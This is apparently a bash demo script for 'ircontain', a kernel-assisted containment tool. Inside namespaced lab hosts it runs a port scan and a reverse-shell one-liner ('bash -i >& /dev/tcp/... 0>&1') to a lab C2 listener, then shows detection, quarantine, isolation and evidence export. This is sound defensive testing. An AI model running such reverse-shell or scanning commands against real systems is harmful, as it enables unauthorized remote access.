#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# ircontain, the whole story in under two minutes, for real: a private lab
# of network namespaces, real packets, a real compromised process.
#
#   attacker   10.99.1.2 ─┐
#   client     10.99.2.2 ─┤ one veth each   ┌─ protected host (ircontain
#   admin      10.99.3.2 ─┤ ──────────────► │  loaded on its lab-side
#   c2         10.99.4.2 ─┘                 └─ interfaces), 10.99.N.1
#
#   1. load, policy (enforce, admin allowlisted, portscan at 10 ports), run
#   2. ordinary traffic flows
#   3. the attacker port-scans and the kernel quarantines it on its own
#   4. a compromised process opens a reverse shell: the kernel kills it
#   5. the operator isolates the host: the admin's open session survives
#   6. the evidence
#
# Usage: sudo make demo   (or: sudo scripts/demo.sh; IRC_BIN=... for another
# build).  DEMO_NONINTERACTIVE=1 never pauses (it only pauses on a terminal).
#
# Everything it creates is named ircdemo<PID> (namespaces, pins, cgroup) or
# ircdemo-* (interfaces, inside its namespaces only: no interface is ever
# created in, moved from or attached to in the host's own namespace), and is
# removed on every exit path, Ctrl-C included.  Traffic only flows between
# its own namespaces, and is bounded in count and time.
set -uo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
IRC_BIN=${IRC_BIN:-$ROOT/build/ircontain}
[[ $IRC_BIN == /* ]] || IRC_BIN=$PWD/$IRC_BIN
POLICY_SRC=$ROOT/docs/policy.yaml

ID=ircdemo$$
# Every process of the demo carries this (tests find leftovers by it).
export IRCDEMO_ID=$ID
NS_P=$ID-host		# the protected host
NS_A=$ID-attacker
NS_C=$ID-client
NS_M=$ID-admin
NS_X=$ID-c2
# host name, lab number (10.99.N.0/24), protected host's interface
LAB=("$NS_A 1 ircdemo-atk" "$NS_C 2 ircdemo-cli" "$NS_M 3 ircdemo-adm" "$NS_X 4 ircdemo-c2")
ATTACKER=10.99.1.2 CLIENT=10.99.2.2 ADMIN=10.99.3.2 C2=10.99.4.2
WEB_PORT=80		# the protected host's service (echo)
ADM_PORT=2222		# the administrator's long-lived session (echo)
C2_PORT=4444

PIN_DIR=/sys/fs/bpf/$ID
TMP=
CG=
BPFFS_MOUNTED=0
PIDS=()
ADM_FD=
STARTED=$EPOCHREALTIME
STEP=0
STEP_NAMES=()
STEP_PASS=()
STEP_FAIL=()
STEP_TIME=()
STEP_T0=
CLEANED=0
INTERRUPTED=0
MAIN=

# The lab is not the machine: nothing the operator's SSH session carries
# (isolate/quarantine refuse to cut it) applies to addresses in the lab.
unset SSH_CONNECTION SSH_CLIENT

# ---- output ---------------------------------------------------------------

if [[ -t 1 ]]; then
	B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' D=$'\e[2m' N=$'\e[0m'
else
	B='' G='' R='' D='' N=''
fi

# elapsed [END [START]]: seconds, one decimal (EPOCHREALTIME, no bc needed).
usec() { local t=${1/[.,]/}; echo $((10#$t)); }
elapsed() {
	local d=$(($(usec "${1:-$EPOCHREALTIME}") - $(usec "${2:-$STARTED}")))
	printf '%d.%d' $((d / 1000000)) $((d % 1000000 / 100000))
}
say() { printf '%s\n' "$*"; }
info() { printf '   %s\n' "$*"; }
indent() { sed 's/^/      /'; }
# The operator's command, shown as typed, then run in the protected host.
op() {
	local a shown=
	for a in "$@"; do [[ $a == *' '* ]] && a="\"$a\""; shown+=" $a"; done
	printf '   %s# ircontain%s%s\n' "$B" "$shown" "$N"
	irc "$@" 2>&1 | indent
	return "${PIPESTATUS[0]}"
}

ok() {
	STEP_PASS[STEP]=$((${STEP_PASS[STEP]:-0} + 1))
	printf '   %sok%s - %s\n' "$G" "$N" "$*"
}
failed() {
	STEP_FAIL[STEP]=$((${STEP_FAIL[STEP]:-0} + 1))
	printf '   %sFAILED%s - %s\n' "$R" "$N" "$*"
}
# expect NAME CMD...: ok when CMD succeeds.  expect_not NAME CMD...: when not.
expect() {
	local name=$1; shift
	if "$@" >"$TMP/out" 2>&1; then ok "$name"; else
		failed "$name"; indent <"$TMP/out" | tail -5; fi
}
expect_not() {
	local name=$1; shift
	if "$@" >"$TMP/out" 2>&1; then failed "$name"; indent <"$TMP/out" | tail -5
	else ok "$name"; fi
}

step_end() {
	((STEP > 0)) && STEP_TIME[STEP]=$(elapsed "$EPOCHREALTIME" "$STEP_T0")
}
step() {
	step_end
	STEP=$1
	STEP_NAMES[STEP]=$2
	STEP_PASS[STEP]=0 STEP_FAIL[STEP]=0
	STEP_T0=$EPOCHREALTIME
	echo "$1" >"$TMP/step"
	printf '\n%s== %d. %s ==%s\n' "$B" "$1" "$2" "$N"
}

# Between steps, on a terminal only: a short pause (Enter skips it).
pause() {
	[[ -t 0 && ${DEMO_NONINTERACTIVE:-0} != 1 ]] || return 0
	read -r -s -t 4 -p "   ${D}(next step in 4 s, Enter to go on)${N}" || true
	printf '\r\e[K'
}

# ---- the lab ----------------------------------------------------------------

irc() { nsenter --net="/run/netns/$NS_P" "$IRC_BIN" "$@"; }
in_ns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
# bg CMD...: a background process, ended at cleanup.
bg() { "$@" & PIDS+=($!); }

# wait_for SECONDS CMD...: retries CMD every 100 ms until it succeeds.
wait_for() {
	local deadline=$((SECONDS + $1)); shift
	until "$@" >/dev/null 2>&1; do
		((SECONDS >= deadline)) && return 1
		sleep 0.1
	done
}

# Traffic, always bounded: one ping, one TCP round trip (3 s at most).
ping_from() { in_ns "$1" ping -c1 -W1 "$2" >/dev/null 2>&1; }
tcp_from() {
	[[ $(echo hello | timeout 3 ip netns exec "$1" \
		socat -T2 - "TCP4:$2:$3,connect-timeout=2" 2>/dev/null) == hello ]]
}
listening() { in_ns "$1" ss -Htln "sport = :$2" | grep -q .; }

# The protected host's address on host N's link.
p_addr() { echo "10.99.$1.1"; }

lab_up() {
	local h ns n ifc
	mkdir "$CG" || return 1
	ip netns add "$NS_P" || return 1
	in_ns "$NS_P" ip link set lo up
	for h in "${LAB[@]}"; do
		read -r ns n ifc <<<"$h"
		ip netns add "$ns" || return 1
		# Created directly inside the two namespaces: the host's own
		# namespace never sees these interfaces.
		ip link add "$ifc" netns "$NS_P" type veth peer name ircdemo-lan \
			netns "$ns" || return 1
		in_ns "$NS_P" ip addr add "10.99.$n.1/24" dev "$ifc" || return 1
		in_ns "$NS_P" ip link set "$ifc" up || return 1
		in_ns "$ns" ip link set lo up
		in_ns "$ns" ip addr add "10.99.$n.2/24" dev ircdemo-lan || return 1
		in_ns "$ns" ip link set ircdemo-lan up || return 1
	done
	for h in "${LAB[@]}"; do
		read -r ns n ifc <<<"$h"
		wait_for 5 ping_from "$ns" "10.99.$n.1" || return 1
	done
}

# Every process of the demo still running: whatever is in its namespaces or
# its cgroup (only its own processes are ever there), and whatever carries
# its IRCDEMO_ID (every program it started, wherever it runs).
lab_pids() {
	local h ns n ifc
	ip netns pids "$NS_P" 2>/dev/null
	for h in "${LAB[@]}"; do
		read -r ns n ifc <<<"$h"
		ip netns pids "$ns" 2>/dev/null
	done
	if [[ -n $CG && -d $CG ]]; then
		find "$CG" -name cgroup.procs -exec cat {} + 2>/dev/null
	fi
	# (grep itself without the mark, or it could find itself.)
	local f
	for f in $(env -u IRCDEMO_ID grep -lzxF "IRCDEMO_ID=$ID" /proc/[0-9]*/environ 2>/dev/null); do
		f=${f#/proc/}
		echo "${f%%/*}"
	done
}
# lab_kill SIGNAL: sends SIGNAL to all of them (never to this shell).
lab_kill() {
	local pid
	for pid in $(lab_pids | sort -u); do
		((pid != $$)) && kill "-$1" "$pid" 2>/dev/null
	done
}
lab_quiet() { [[ -z $(lab_pids) ]]; }

# Runs in the supervising shell, on every exit path, once.
cleanup() {
	local h ns n ifc i
	((CLEANED)) && return
	CLEANED=1
	# A second Ctrl-C must not leave the cleanup half done.
	trap '' INT TERM
	{
		if [[ -n $MAIN ]]; then
			kill -TERM "$MAIN"
			wait "$MAIN"
		fi
		# Gently first (the controller exits 0 on SIGTERM), then for sure.
		lab_kill TERM
		wait_for 1 lab_quiet
		for ((i = 0; i < 30; i++)); do
			lab_quiet && break
			lab_kill KILL
			sleep 0.1
		done
	} 2>/dev/null
	if [[ -d $PIN_DIR ]]; then
		irc unload >/dev/null 2>&1
		# Whatever unload left: our pins only, never anything else.
		find "$PIN_DIR" -depth -mindepth 1 -delete 2>/dev/null
		rmdir "$PIN_DIR" 2>/dev/null
	fi
	for h in "${LAB[@]}"; do
		read -r ns n ifc <<<"$h"
		ip netns del "$ns" 2>/dev/null
	done
	ip netns del "$NS_P" 2>/dev/null
	[[ -n $CG && -d $CG ]] && find "$CG" -depth -type d -exec rmdir {} + 2>/dev/null
	((BPFFS_MOUNTED)) && [[ -z $(ls -A /sys/fs/bpf 2>/dev/null) ]] && umount /sys/fs/bpf
	[[ -n $TMP ]] && rm -rf "$TMP"
	leftovers
}

# What cleanup could not remove, if anything, said plainly.
leftovers() {
	local left=()
	ip netns list 2>/dev/null | grep -q "^$ID-" && left+=("namespaces")
	[[ -e $PIN_DIR ]] && left+=("$PIN_DIR")
	[[ -n $CG && -e $CG ]] && left+=("$CG")
	lab_quiet || left+=("processes $(lab_pids | sort -u | tr '\n' ' ')")
	if ((${#left[@]})); then
		say "${R}cleanup: could not remove ${left[*]}${N}" >&2
		return 1
	fi
	say "${D}cleanup: namespaces, interfaces, pins, cgroup and processes removed${N}"
}

on_exit() {
	local rc=$? step
	if ((INTERRUPTED)); then
		step=$(cat "$TMP/step" 2>/dev/null)
		printf '\n%sinterrupted during step %s: cleaning up%s\n' "$B" "${step:-0}" "$N"
	fi
	cleanup
	exit "$rc"
}
on_signal() {
	INTERRUPTED=1
	exit "$1"
}

# ---- live state ---------------------------------------------------------------

# incident_id TITLE-PREFIX: the newest incident whose title starts so.
incident_id() {
	irc --json incident list 2>/dev/null |
		jq -r --arg t "$1" 'select(.title | startswith($t)) | .id' | head -1
}
# incident_is TITLE-PREFIX OPENED_BY STATUS
incident_is() {
	irc --json incident list 2>/dev/null | jq -se --arg t "$1" --arg o "$2" --arg s "$3" \
		'any(.[]; (.title | startswith($t)) and .opened_by == $o and .status == $s)' >/dev/null
}
show_incidents() {
	printf '   %s# ircontain incident list%s\n' "$B" "$N"
	irc incident list 2>&1 | indent
}

# One line of counters from `ircontain --json status`.
show_status() {
	irc --json status 2>/dev/null | jq -r '
		"   [status] in: passed \(.counters.rx_pass), dropped quarantine \(.counters.rx_drop_quarantine), isolation \(.counters.rx_drop_isolate), allowlisted \(.counters.rx_allow)" +
		" | out: passed \(.counters.tx_pass), dropped quarantine \(.counters.tx_drop_quarantine), isolation \(.counters.tx_drop_isolate)",
		"   [status] quarantined hosts \(.entries.host_v4 + .entries.host_v6 + .entries.prefix_v4 + .entries.prefix_v6), processes \(.entries.processes)" +
		" | isolation \(if .isolation.enabled then "ON" else "off" end)" +
		" | events \(.events.emitted) emitted, \(.events.lost) lost"' 2>/dev/null ||
		info "[status] unavailable"
}
# Every quarantine entry from `ircontain --json list`.
show_list() {
	local out
	out=$(irc --json list 2>/dev/null | jq -r '.entries[] |
		"   [list]   \(.target)  \(.direction)  ttl \(.ttl_remaining // "-")s  drops \(.drops)  actor \(.actor)  \"\(.reason)\""' 2>/dev/null)
	if [[ -n $out ]]; then say "$out"; else info "[list]   no quarantine entries"; fi
}
counter() { irc --json status 2>/dev/null | jq -r --arg n "$1" '.counters[$n] // -1'; }

# ev_jq ACTION FILTER: jq -r FILTER over each event of event.action ACTION
# the controller wrote (grep first: the file holds the whole machine's
# events).  A line still being written is skipped, not an error.
ev_jq() {
	grep -F "\"$1\"" "$STATE/events.jsonl" 2>/dev/null |
		jq -R -r "fromjson? | select(.event.action == \"$1\") | $2" 2>/dev/null
}
# has_event ACTION SELECTOR: at least one such event matches SELECTOR.
has_event() { [[ -n $(ev_jq "$1" "select($2) | 1" | head -1) ]]; }
# irc_jq FILTER ARGS...: `ircontain --json ARGS` satisfies FILTER.
irc_jq() {
	local f=$1; shift
	irc --json "$@" 2>/dev/null | jq -e "$f"
}

# ---- summary ----------------------------------------------------------------------

# Every step with its checks and time; exits 0 only if all six passed.
summary() {
	local s res all_ok=1 total
	step_end
	printf '\n%s== Summary ==%s\n' "$B" "$N"
	for ((s = 1; s <= 6; s++)); do
		if [[ -z ${STEP_NAMES[s]:-} ]]; then
			printf '   %d. %sFAILED%s  not run\n' "$s" "$R" "$N"
			all_ok=0
			continue
		fi
		if ((STEP_FAIL[s] == 0 && STEP_PASS[s] > 0)); then res="${G}ok    ${N}"
		else res="${R}FAILED${N}"; all_ok=0; fi
		printf '   %d. %s %2d/%-2d checks %5ss  %s\n' "$s" "$res" "${STEP_PASS[s]}" \
			"$((STEP_PASS[s] + STEP_FAIL[s]))" "${STEP_TIME[s]:-?}" "${STEP_NAMES[s]}"
	done
	total=$(elapsed)
	[[ -n ${REPORT:-} && -s $REPORT ]] && say "report.html: ${B}$REPORT${N} (bundles in $OUT)"
	if ((all_ok)); then
		say "${B}demo: all 6 steps passed in ${total}s${N}"
		exit 0
	fi
	say "${R}demo: FAILED (${total}s)${N}"
	exit 1
}

# ---- preflight ------------------------------------------------------------------

preflight() {
	local t missing=()
	if ((EUID != 0)); then
		say "demo: needs root (BPF, namespaces, cgroups): sudo make demo" >&2
		return 1
	fi
	if [[ ! -x $IRC_BIN ]]; then
		say "demo: no binary at $IRC_BIN: run make (or set IRC_BIN)" >&2
		return 1
	fi
	for t in ip nsenter socat jq ping timeout ss tcpdump mkfifo; do
		command -v "$t" >/dev/null || missing+=("$t")
	done
	if ((${#missing[@]})); then
		say "demo: missing ${missing[*]} (make deps installs them)" >&2
		return 1
	fi
	CG2=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
	if [[ -z $CG2 || ! -d $CG2 ]]; then
		say "demo: no cgroup v2 mount in /proc/self/mountinfo" >&2
		return 1
	fi
	# The process hooks go to a cgroup of the demo's own, never the root.
	CG=$CG2/$ID
	if ! mountpoint -q /sys/fs/bpf; then
		mount -t bpf bpf /sys/fs/bpf || return 1
		BPFFS_MOUNTED=1
	fi
	if ip netns list | grep -q '^ircdemo'; then
		info "note: other ircdemo namespaces exist (another demo, or one that was killed):"
		ip netns list | grep '^ircdemo' | indent
	fi
}

# =================================================================================

# The story itself.  It runs as a child of the supervising shell below
# (see there why), and ends with the summary: exit 0 if every step passed.
main() {
	info "building the lab: 5 network namespaces, 4 veth pairs, cgroup $CG"
	if ! lab_up; then
		say "${R}demo: could not build the lab${N}" >&2
		exit 1
	fi
	info "attacker $ATTACKER, client $CLIENT, admin $ADMIN, c2 $C2; protected host 10.99.{1..4}.1"

	# ---- 1 --------------------------------------------------------------------------
	step 1 "Load ircontain on the protected host, apply the policy, start the controller"

	ifaces=() names=()
	for h in "${LAB[@]}"; do read -r _ _ ifc <<<"$h"; ifaces+=(--iface "$ifc"); names+=("$ifc"); done
	if op load "${ifaces[@]}"; then ok "loaded on the lab-side interfaces only: ${names[*]}"
	else
		failed "load"
		summary
	fi

	# docs/policy.yaml, three lines changed: enforce, the admin allowlisted, and
	# a port scan is 10 distinct ports (so the demo is quick).
	sed -e 's/^mode: .*/mode: enforce/' \
	    -e "s/^allowlist: .*/allowlist: [$ADMIN]/" \
	    -e '/^  portscan:/,/^  [a-z_]*:/ s/^\(    ports:\) *[0-9]*/\1 10/' \
		"$POLICY_SRC" >"$TMP/policy.yaml"
	info "policy: docs/policy.yaml with mode: enforce, allowlist: [$ADMIN], portscan ports: 10"
	diff "$POLICY_SRC" "$TMP/policy.yaml" | grep '^>' | indent
	printf '   %s# ircontain policy apply policy.yaml%s\n' "$B" "$N"
	if irc --json policy apply "$TMP/policy.yaml" >"$TMP/apply.json" 2>"$TMP/apply.err" &&
	   jq -e '.mode == "enforce" and .allowlist == 1 and .detectors.portscan.threshold == 10
		  and .detectors.reverse_shell.action == "contain-then-kill"' "$TMP/apply.json" >/dev/null; then
		jq -r '"      applied: mode \(.mode), \(.allowlist) allowlist entry, " +
			([.detectors | to_entries[] | select(.value.enabled) |
			  "\(.key) \(.value.action)"] | join(", "))' "$TMP/apply.json"
		ok "policy applied (enforce, admin allowlisted, portscan at 10 ports)"
	else
		indent <"$TMP/apply.err"
		failed "policy apply"
	fi

	printf '   %s# ircontain run --events-file %s &%s\n' "$B" '$STATE/events.jsonl' "$N"
	bg nsenter --net="/run/netns/$NS_P" "$IRC_BIN" run --events-file "$STATE/events.jsonl" \
		2>"$TMP/run.log"
	if wait_for 5 irc_jq ".events.daemon.pid == ${PIDS[-1]}" status; then
		ok "controller running (pid ${PIDS[-1]}), events to \$STATE/events.jsonl"
	else
		indent <"$TMP/run.log"
		failed "controller running"
	fi
	show_status
	pause

	# ---- 2 --------------------------------------------------------------------------
	step 2 "Ordinary traffic flows"

	# The protected host's services: a web service and an admin service (echo).
	bg ip netns exec "$NS_P" socat "TCP4-LISTEN:$WEB_PORT,fork,reuseaddr" PIPE
	bg ip netns exec "$NS_P" socat "TCP4-LISTEN:$ADM_PORT,fork,reuseaddr" PIPE
	wait_for 5 listening "$NS_P" "$WEB_PORT" && wait_for 5 listening "$NS_P" "$ADM_PORT"
	info "protected host serves TCP $WEB_PORT (web) and $ADM_PORT (admin), echo both"

	expect "client $CLIENT pings the protected host" ping_from "$NS_C" "$(p_addr 2)"
	expect "client $CLIENT talks TCP to port $WEB_PORT" tcp_from "$NS_C" "$(p_addr 2)" "$WEB_PORT"
	expect "attacker $ATTACKER pings too (nothing is blocked yet)" ping_from "$NS_A" "$(p_addr 1)"

	# The administrator opens a session now; it stays open for the whole demo.
	mkfifo "$TMP/adm.in"
	exec {ADM_FD}<>"$TMP/adm.in"
	# (Not through bg: a background command's stdin would be /dev/null.)
	ip netns exec "$NS_M" socat -T 300 - "TCP4:$(p_addr 3):$ADM_PORT,connect-timeout=2" \
		<"$TMP/adm.in" >"$TMP/adm.out" 2>"$TMP/adm.err" &
	PIDS+=($!)
	# adm_say LINE: LINE through the admin's open session, echoed back in 3 s.
	adm_say() {
		echo "$1" >&"$ADM_FD" && wait_for 3 grep -qx "$1" "$TMP/adm.out"
	}
	adm_conn() {
		in_ns "$NS_P" ss -Htn state established "( sport = :$ADM_PORT )" | awk '{ print $3, $4 }'
	}
	if adm_say "admin: uptime"; then
		ADM_TUPLE=$(adm_conn)
		ok "admin $ADMIN opened a long-lived TCP session (${ADM_TUPLE/ / <- })"
	else
		ADM_TUPLE=
		failed "admin session"
		indent <"$TMP/adm.err"
		info "received: $(head -c 200 "$TMP/adm.out")"
	fi
	show_status
	pause

	# ---- 3 --------------------------------------------------------------------------
	step 3 "The attacker port-scans; the kernel quarantines it on its own"

	info "attacker: for p in 1..20: bash -c 'echo > /dev/tcp/$(p_addr 1)/\$p'  (0.3 s each at most)"
	in_ns "$NS_A" bash -c '
		closed=0 silent=0
		for p in $(seq 1 20); do
			timeout 0.3 bash -c "echo > /dev/tcp/$0/$p" 2>/dev/null
			case $? in 124) silent=$((silent + 1)) ;; *) closed=$((closed + 1)) ;; esac
		done
		echo "$closed ports answered (closed), then silence: $silent SYNs got no answer"
	' "$(p_addr 1)" 2>&1 | sed 's/^/   attacker: /'

	show_list
	expect "attacker $ATTACKER quarantined by the kernel (actor detector:portscan)" \
		irc_jq "[.entries[] | select(.target == \"$ATTACKER\" and .actor == \"detector:portscan\")] | length == 1" list
	expect_not "attacker's next ping fails" ping_from "$NS_A" "$(p_addr 1)"
	expect_not "attacker's TCP to port $WEB_PORT fails" tcp_from "$NS_A" "$(p_addr 1)" "$WEB_PORT"
	client_ok() { ping_from "$NS_C" "$(p_addr 2)" && tcp_from "$NS_C" "$(p_addr 2)" "$WEB_PORT"; }
	expect "client $CLIENT still pings and talks TCP" client_ok
	expect "controller logged a portscan_detected finding" \
		wait_for 3 has_event portscan_detected ".source.ip == \"$ATTACKER\""
	expect "the finding opened incident \"Port scan from $ATTACKER\", contained, by the detector" \
		wait_for 3 incident_is "Port scan from $ATTACKER" portscan contained
	PS_INC=$(incident_id "Port scan from $ATTACKER")
	show_incidents
	show_status
	pause

	# ---- 4 --------------------------------------------------------------------------
	step 4 "A compromised process opens a reverse shell; the kernel stops it, the controller snapshots and kills it"

	# The attacker's C2 listener (the attacker's own address is quarantined, so
	# it has a second machine): records what it receives.
	bg ip netns exec "$NS_X" timeout 30 socat -d -d -u "TCP4-LISTEN:$C2_PORT,reuseaddr" \
		"OPEN:$TMP/c2.out,creat,trunc" 2>"$TMP/c2.log"
	wait_for 5 listening "$NS_X" "$C2_PORT"
	info "c2 $C2 listens on $C2_PORT (socat, like nc -lvnp $C2_PORT)"
	info "the exploited web app (cgroup ${CG#"$CG2"/}/webapp, protected host) runs:"
	info "  ${B}bash -i >& /dev/tcp/$C2/$C2_PORT 0>&1${N}"
	mkdir -p "$CG/webapp"
	CGID=$(stat -c %i "$CG/webapp")	# a cgroup v2 directory's inode is its id
	bash -c 'echo $$ >"$0/cgroup.procs" && exec "$@"' "$CG/webapp" \
		nsenter --net="/run/netns/$NS_P" \
		timeout 5 bash -c "bash -i >& /dev/tcp/$C2/$C2_PORT 0>&1" </dev/null >/dev/null 2>&1
	rc=$?
	info "the shell's exit status: $rc$( ((rc == 137)) && echo ' (SIGKILL)')"
	if ((rc == 137)); then ok "reverse shell stopped by the kernel, then killed (exit 137)"
	else failed "reverse shell stopped by the kernel, then killed (exit $rc, expected 137)"; fi
	# One selector for the demo's own finding: other processes on the machine
	# are seen too, the cgroup tells ours apart.
	RS_SEL="(.ircontain.cgroup_id == $CGID or ((.ircontain.cgroup // \"\") | contains(\"$ID/webapp\")))"
	expect "controller logged reverse_shell_detected, action contain-then-kill, enforced" \
		wait_for 3 has_event reverse_shell_detected "$RS_SEL and .ircontain.finding.action == \"contain-then-kill\" and .ircontain.finding.enforced == true"
	wait_for 3 grep -q 'accepting connection' "$TMP/c2.log"
	c2_bytes=$(stat -c %s "$TMP/c2.out" 2>/dev/null || echo 0)
	c2_peer=$(sed -n 's/.*accepting connection from AF=[0-9]* \([^ ]*\).*/\1/p' "$TMP/c2.log" | head -1)
	info "c2: ${c2_peer:+connection from $c2_peer, }received $c2_bytes bytes"
	if ((c2_bytes == 0)); then ok "the attacker got no shell (c2 received 0 bytes)"
	else failed "the attacker got no shell (c2 received $c2_bytes bytes)"; fi

	expect "the finding opened a reverse-shell incident, contained, by the detector" \
		wait_for 3 incident_is "Reverse shell: pid " reverse_shell contained
	RS_INC=$(incident_id "Reverse shell: pid ")
	show_incidents

	# The operator blocks the C2 address too, both ways, on the same incident.
	expect "the protected host reaches the c2 (ping)" ping_from "$NS_P" "$C2"
	op quarantine host "$C2" --ttl 1h --reason "C2 of the reverse shell" --incident "${RS_INC:-0}"
	c2_actor=$(irc --json list 2>/dev/null | jq -r ".entries[] | select(.target == \"$C2\") | .actor")
	if [[ -n $c2_actor && $c2_actor != detector:* ]]; then
		ok "operator quarantined the c2 $C2 (actor $c2_actor)"
	else failed "operator quarantined the c2 $C2 (actor '$c2_actor')"; fi
	expect_not "the protected host can no longer reach the c2 (ping)" ping_from "$NS_P" "$C2"
	show_list
	show_status
	pause

	# ---- 5 --------------------------------------------------------------------------
	step 5 "The operator isolates the host; the admin's open session survives"

	drop0=$(counter rx_drop_isolate)
	if op isolate on --incident "${RS_INC:-0}" --reason "contain while the web app is examined"; then
		ok "isolate on"
	else failed "isolate on"; fi
	expect "admin's session, opened before, is alive under isolation" adm_say "admin: still here?"
	if [[ -n $ADM_TUPLE && $(adm_conn) == "$ADM_TUPLE" ]]; then
		ok "same TCP connection (${ADM_TUPLE/ / <- }), not a new one"
	else
		failed "same TCP connection (was '$ADM_TUPLE', now '$(adm_conn)')"
	fi
	expect "admin $ADMIN (allowlisted) still pings" ping_from "$NS_M" "$(p_addr 3)"
	expect_not "client $CLIENT is cut off: ping fails" ping_from "$NS_C" "$(p_addr 2)"
	expect_not "client $CLIENT is cut off: TCP fails" tcp_from "$NS_C" "$(p_addr 2)" "$WEB_PORT"
	drop1=$(counter rx_drop_isolate)
	if ((drop1 > drop0)); then ok "kernel counted isolation drops ($drop0 -> $drop1)"
	else failed "isolation drops counted ($drop0 -> $drop1)"; fi
	show_status
	if op isolate off --incident "${RS_INC:-0}" --reason "web app rebuilt"; then ok "isolate off"
	else failed "isolate off"; fi
	expect "client $CLIENT is back: ping" ping_from "$NS_C" "$(p_addr 2)"
	expect "client $CLIENT is back: TCP" tcp_from "$NS_C" "$(p_addr 2)" "$WEB_PORT"
	expect_not "attacker $ATTACKER is still quarantined: ping fails" ping_from "$NS_A" "$(p_addr 1)"
	expect "admin's session still alive" adm_say "admin: exit"
	show_status
	pause

	# ---- 6 --------------------------------------------------------------------------
	step 6 "Evidence: the incident closed, exported as a signed bundle, verified"

	printf '   %s# ircontain events --type portscan_detected%s\n' "$B" "$N"
	irc events --type portscan_detected 2>&1 | grep -F "$ATTACKER" | indent
	if has_event portscan_detected ".source.ip == \"$ATTACKER\""; then
		ok "finding: portscan from $ATTACKER"
	else failed "finding: portscan from $ATTACKER"; fi

	printf '   %s# ircontain events --type reverse_shell_detected%s\n' "$B" "$N"
	# The findings of other processes on the machine are left out (grep).
	rs_pid=$(ev_jq reverse_shell_detected "select($RS_SEL) | .process.pid" | head -1)
	if irc events --type reverse_shell_detected >"$TMP/rs.txt" 2>"$TMP/rs.err"; then
		grep -F "(pid $rs_pid)" "$TMP/rs.txt" | indent
	else
		info "$(head -1 "$TMP/rs.err")"
		info "(events --type does not know this finding yet: the same, from --json and jq)"
		irc --json events 2>/dev/null | grep -F reverse_shell_detected |
			jq -r "select(.event.action == \"reverse_shell_detected\" and $RS_SEL) |
			\"\\(.[\"@timestamp\"]) \\(.event.action) \\(.message)\"" | indent
	fi
	if [[ -n $rs_pid ]]; then
		ev_jq reverse_shell_detected "select($RS_SEL) | \"      process \\(.process.executable // .process.name) pid \\(.process.pid), parent \\(.process.parent.name // \"?\") pid \\(.process.parent.pid // \"?\"), cgroup \\(.ircontain.cgroup // \"?\"), severity \\(.ircontain.finding.severity)\"" | head -1
		ok "finding: reverse shell (pid $rs_pid), killed"
	else failed "finding: reverse shell"; fi

	printf '   %s# ircontain events --type packet_dropped   (last 5)%s\n' "$B" "$N"
	irc events --type packet_dropped 2>&1 | tail -5 | indent
	ndrop=$(ev_jq packet_dropped 1 | wc -l)
	if ((${ndrop:-0} > 0)); then ok "$ndrop drop samples, each with the rule that dropped it"
	else failed "drop samples"; fi
	lost=$(irc --json status 2>/dev/null | jq -r '.events.lost')
	info "events: $(wc -l <"$STATE/events.jsonl") lines written, $lost lost in the kernel"
	show_list

	# The incident through to its end, then the bundle for the investigators.
	op incident note "${RS_INC:-0}" "webapp exploited through the upload form; shell killed, c2 blocked"
	op incident status "${RS_INC:-0}" recovered
	op incident close "${RS_INC:-0}" --summary "reverse shell from the web app, killed by ircontain before any command ran; c2 blocked; host isolated, rebuilt, back in service"
	expect "incident $RS_INC closed, every step on its record" \
		irc_jq '.incident.status == "closed" and ([.timeline[] | select(.kind == "action")] | length >= 6)' incident show "${RS_INC:-0}"
	printf '   %s# ircontain incident show %s%s\n' "$B" "$RS_INC" "$N"
	irc incident show "${RS_INC:-0}" 2>&1 | grep -E '^(#|[A-Za-z]+:| *[0-9T:.-]+Z +action )' | head -24 | indent

	mkdir -p "$OUT"
	for inc in $RS_INC $PS_INC; do
		bundle=$OUT/incident-$inc.tar.gz
		if op export "$inc" -o "$bundle" --force; then ok "incident $inc exported: $bundle"
		else failed "export incident $inc"; continue; fi
		if op verify "$bundle"; then ok "bundle verified: signature and every file's SHA-256"
		else failed "verify $bundle"; fi
		tar -xzf "$bundle" -C "$OUT"
		npk=$(tcpdump -nr "$OUT/ircontain-incident-$inc/packets.pcap" 2>/dev/null | wc -l)
		info "packets.pcap: $npk packets (tcpdump -r); report: $OUT/ircontain-incident-$inc/report.html"
	done
	# The key the bundles are signed with, for whoever verifies them elsewhere.
	cp "$STATE/signing.pub" "$OUT/" && info "signer's public key: $OUT/signing.pub (verify --pubkey)"
	if op verify; then ok "evidence store verified: hash chain intact"
	else failed "evidence store verify"; fi
	REPORT=$OUT/ircontain-incident-$RS_INC/report.html
	if [[ -s $REPORT ]]; then
		ok "report for management: $REPORT"
	else failed "report.html of incident $RS_INC"; fi
	summary
}

# ---- supervision ------------------------------------------------------------------
#
# This shell only starts main and waits for it: `wait` returns at once when a
# trapped signal arrives, so a Ctrl-C is never lost.  (Had the story run
# here, bash would have swallowed a Ctrl-C whenever the command in the
# foreground handles SIGINT itself, as ping does, or does not get it, as
# timeout's child does not.)  main, started in the background, ignores the
# Ctrl-C; the trap ends it and cleans up.

say "${B}ircontain demo${N}: kernel-assisted containment, from detection to evidence"
say "${D}lab $ID: binary $IRC_BIN${N}"
trap on_exit EXIT
trap 'on_signal 130' INT
trap 'on_signal 143' TERM
preflight || exit 1
TMP=$(mktemp -d /tmp/ircdemo.XXXXXX) || exit 1
STATE=$TMP/state
mkdir -p "$STATE"
# The exported bundles outlive the lab: they are what the demo leaves you.
OUT=${IRC_DEMO_OUT:-/tmp/ircontain-demo-$(date +%Y%m%d-%H%M%S)}
export IRCONTAIN_PIN_DIR=$PIN_DIR IRCONTAIN_STATE_DIR=$STATE IRCONTAIN_CGROUP_ROOT=$CG

main <&0 &
MAIN=$!
wait "$MAIN"
rc=$?
MAIN=
exit "$rc"
